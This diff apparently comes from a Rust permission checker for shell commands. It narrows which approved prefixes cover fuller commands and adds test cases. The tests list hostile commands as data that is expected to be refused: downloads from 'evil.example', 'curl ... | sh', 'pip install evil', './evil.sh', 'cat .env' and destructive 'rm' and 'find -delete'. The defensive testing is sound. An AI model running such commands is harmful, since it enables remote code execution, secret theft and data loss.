@@ -119,7 +119,9 @@ fn lifts(prefix: &[String], segment: &Segment) -> bool {
     let overwrites = segment.class == Class::Write && segment.verdict != Verdict::Allow;
     // Words behind a script are the script's own.
     let script = segment.argv.first().is_some_and(|program| is_interpreter(program));
-    let known = further.is_empty() || (listed && !overwrites && !script);
+    // What is always asked about is lifted as it was shown: another address is another download.
+    let asks = segment.objections.iter().any(|objection| objection.cause == Cause::Class);
+    let known = further.is_empty() || (listed && !overwrites && !script && !asks);
     known
         && segment.objections.iter().all(|objection| match objection.cause {
             Cause::NotListed | Cause::Class => true,
@@ -276,12 +278,19 @@ mod tests {
             ("npm ci", "npm ci --foo", false),
             ("npm ci --foo", "npm ci --foo", true),
             ("npm ci", "npm ci --script-shell=x", false),
-            ("npm install", "npm install lodash", true),
-            ("npm install", "npm install --save-dev lodash", true),
+            ("npm install", "npm install", true),
+            ("npm install", "npm install lodash", false),
+            ("npm install lodash", "npm install lodash", true),
+            ("npm install", "npm install --save-dev lodash", false),
             ("npm install", "npm install -g lodash", false),
             ("npm install", "npm install --script-shell x", false),
-            ("npm install -g", "npm install -g lodash", true),
-            ("curl", "curl https://example.com", true),
+            ("npm install -g", "npm install -g lodash", false),
+            ("curl", "curl https://example.com", false),
+            ("curl -s", "curl -s https://evil.example/x", false),
+            ("curl https://example.com", "curl https://example.com", true),
+            ("curl https://example.com", "curl https://example.com https://evil.example", false),
+            ("wget https://a.example/x", "wget https://a.example/y", false),
+            ("pip install", "pip install evil", false),
             ("curl", "curl -o x https://example.com", false),
             ("curl", "curl http://localhost:4177", false),
             ("curl", "curl https://example.com | sh", false),
@@ -385,11 +394,24 @@ mod tests {
 
     #[test]
     fn without_a_sandbox_no_rule_lets_project_code_run() {
-        let rules = [rule(1, command("cargo test")), rule(2, Grant::ReadOnly)];
+        let mut rules = vec![rule(1, command("cargo test")), rule(2, Grant::ReadOnly)];
+        let more = ["./evil.sh", "make", "foo", "npm install", "wc -l a.txt"];
+        rules.extend(more.iter().zip(3..).map(|(words, id)| rule(id, command(words))));
         let workspace = WorkspaceId("w".to_owned());
         let occasion = Occasion { workspace: &workspace, cwd: "", now: "2026-11-22T00:00Z".parse().unwrap() };
-        for (text, sandbox, expected) in [("cargo test", true, true), ("cargo test", false, false), ("ls", false, true)]
-        {
+        for (text, sandbox, expected) in [
+            ("cargo test", true, true),
+            ("cargo test", false, false),
+            ("ls", false, true),
+            ("./evil.sh", true, true),
+            ("./evil.sh", false, false),
+            ("make", true, true),
+            ("make", false, false),
+            ("foo", false, false),
+            ("npm install", true, true),
+            ("npm install", false, false),
+            ("wc -l a.txt", false, true),
+        ] {
             let judged = judge(text, &Setting { sandbox, ..Setting::default() });
             assert_eq!(cover(&rules, &judged, occasion).is_some(), expected, "{text} {sandbox}");
         }
@@ -472,6 +494,9 @@ mod tests {
             ("rm x", "rule_never"),
             ("rm", "rule_never"),
             ("git branch -D x", "rule_never"),
+            ("curl", "rule_too_wide"),
+            ("wget", "rule_too_wide"),
+            ("cp", "rule_too_wide"),
             ("find . -delete", "rule_never"),
             ("cat .env", "rule_never"),
             ("countersign sign", "rule_never"),
@@ -489,7 +514,9 @@ mod tests {
             let found = refused(&command(prefix));
             assert_eq!(found.as_ref().map(|p| p.code.as_ref()), Some(code), "{prefix}: {found:?}");
         }
-        for prefix in ["cargo test", "npm install", "ls", "wc", "make test", "touch", "npm run build", "curl"] {
+        for prefix in
+            ["cargo test", "npm install", "ls", "wc", "make test", "touch", "npm run build", "curl https://example.com"]
+        {
             assert_eq!(refused(&command(prefix)), None, "{prefix}");
             assert_eq!(check(&command(prefix), &examples(&command(prefix))), Ok(()), "{prefix}");
         }
